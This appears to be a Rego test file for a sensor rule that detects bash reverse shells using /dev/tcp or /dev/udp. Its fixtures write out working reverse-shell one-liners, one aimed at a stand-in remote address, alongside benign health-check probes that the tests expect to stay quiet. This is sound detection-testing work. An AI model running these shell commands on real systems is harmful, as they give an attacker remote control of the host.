package sensor.rules.reverse_shell_dev_tcp_test

import rego.v1

import data.sensor.rules.reverse_shell_dev_tcp as r
import data.sensor.test.fixtures as f

test_bash_dev_tcp_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
}

test_loopback_with_stdio_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444; exec 1>&3"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "sh -i >& /dev/udp/127.0.0.1/53 0>&1"])
}

test_healthcheck_probe_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/bash", ["bash", "-c", "</dev/tcp/127.0.0.1/5432"])
	count(r.alert) == 0 with input as f.exec("/usr/bin/bash", ["bash", "-c", "echo > /dev/tcp/localhost/8080"])
}

test_ordinary_command_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/bash", ["bash", "-c", "ls /dev/ > /tmp/x"])
}
